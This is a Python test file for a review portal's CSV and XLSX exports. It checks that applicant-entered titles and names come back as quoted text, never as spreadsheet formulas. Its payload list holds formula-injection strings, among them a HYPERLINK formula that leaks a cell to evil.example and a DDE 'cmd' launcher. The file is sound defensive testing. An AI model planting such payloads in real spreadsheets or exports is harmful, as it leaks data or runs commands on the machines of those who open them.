"""Formula injection: what applicants type reaches the staff's spreadsheets as text, never as a
formula, in every export (read back by the csv module and by openpyxl, as a spreadsheet would)."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from accounts import exports
from calls.models import ReviewCriterion
from reviews import services
from tests.reviews.factories import ClosedCallFactory, ReviewerProfileFactory, assign, submitted_application
from tests.reviews.helpers import url

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&C3,"Click for details")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def assert_no_formula_cells(cells):
    for cell in cells:
        assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), f"{cell.coordinate}: {cell.value!r}"


@pytest.fixture
def hostile_call(db):
    """A closed call whose applications are titled and signed with the payloads, one reviewed."""
    call = ClosedCallFactory()
    applications = []
    for payload in PAYLOADS:
        application = submitted_application(call)
        application.title = payload
        application.save(update_fields=["title"])
        applicant = application.applicant
        applicant.first_name, applicant.last_name = payload, payload
        applicant.save(update_fields=["first_name", "last_name"])
        applications.append(application)
    reviewer = ReviewerProfileFactory(institution="").user
    assignment = assign(applications[0], reviewer)
    criteria = ReviewCriterion.objects.filter(call=call).order_by("position")
    services.save_review(
        assignment, reviewer, scores={c.pk: (4, "") for c in criteria}, recommendation="support", submit=True
    )
    return call


@pytest.mark.django_db
def test_csv_export_writes_every_payload_as_quoted_text(client, staff, hostile_call):
    client.force_login(staff)
    response = client.get(url("export_csv", hostile_call.pk))
    assert response.status_code == 200
    rows = read_csv(response.content)
    header = rows[0]
    titles = {dict(zip(header, row, strict=True))["Title"] for row in rows[1:]}
    applicants = {dict(zip(header, row, strict=True))["Applicant"] for row in rows[1:]}
    assert titles == {"'" + payload for payload in PAYLOADS}
    assert all(name.startswith("'") for name in applicants)
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value
    # The portal's own numbers stay numbers.
    reviewed = next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[0] == "1")
    assert reviewed["Weighted mean"] == "4.00"


@pytest.mark.django_db
def test_xlsx_export_has_no_formula_and_types_payloads_as_strings(client, staff, hostile_call):
    client.force_login(staff)
    response = client.get(url("export_xlsx", hostile_call.pk))
    assert response.status_code == 200
    assert b"<f>" not in _sheet_xml(response.content)
    rows = read_xlsx(response.content)
    assert_no_formula_cells(cell for row in rows for cell in row)
    header = [cell.value for cell in rows[0]]
    titles = {dict(zip(header, row, strict=True))["Title"].value for row in rows[1:]}
    # XML reads a carriage return back as a line feed.
    assert titles == {"'" + payload.replace("\r", "\n") for payload in PAYLOADS}
    ranked = next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[0].value == 1)
    assert ranked["Weighted mean"].value == pytest.approx(4.0) and ranked["Weighted mean"].data_type == "n"


def _sheet_xml(content):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_neutralise_leaves_ordinary_text_alone_and_quotes_formula_starts():
    assert exports.neutralise("Neuro-imaging in Dakar") == "Neuro-imaging in Dakar"
    assert exports.neutralise("-omics") == "'-omics"
    assert exports.neutralise(None) == ""
    assert exports.cell_text(Decimal("12500.50"), decimal_separator=",") == "12500,50"
    assert exports.cell_text("=1+1", decimal_separator=",") == "'=1+1"


hostile_text = st.one_of(
    st.text(max_size=80),
    st.sampled_from(PAYLOADS),
    st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=40)),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow], derandomize=True)
@given(cells=st.lists(hostile_text, min_size=1, max_size=5))
def test_any_text_reads_back_as_text_from_csv_and_xlsx(cells):
    header = [f"c{i}" for i in range(len(cells))]
    csv_rows = read_csv(exports.write_csv(header, [cells]).encode("utf-8"))
    for value in csv_rows[1]:
        assert not value.startswith(FORMULA_STARTS)
    xlsx_rows = read_xlsx(exports.write_xlsx(header, [cells], sheet_title="=HYPERLINK()"))
    assert_no_formula_cells(cell for row in xlsx_rows for cell in row)
